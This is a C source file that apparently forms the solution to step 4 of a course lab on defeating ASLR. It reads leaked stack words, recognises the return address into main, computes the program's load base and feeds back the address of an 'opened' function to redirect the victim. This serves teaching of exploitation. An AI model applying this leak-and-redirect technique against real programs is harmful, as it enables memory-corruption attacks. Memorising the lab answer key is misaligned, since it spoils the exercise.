/*
 * leak.c - step 4: lets the victim tell where it lies, and makes it open wherever that is.
 */
#include "labs/aslr/attack.h"

int
main(void)
{
    // LAB aslr/4 begin
    struct symbol caller = symbol_of("main");
    uint64_t base = 0;

    tell(24);
    for (int i = 0; i < 24; i++) {
        uint64_t word = hear(), low = (word - caller.offset) % PAGE;

        /* The return address: in main, whose place in its page no kernel can change, and in the
         * quarter where programs are. */
        if (word >= PAGE && word >> 45 == 0 && low < caller.size)
            base = word - caller.offset - low;
    }
    for (int i = 0; i < 24; i++)
        tell(base + symbol_of("opened").offset);
    tell(0);
    // LAB end
    return 0;
}
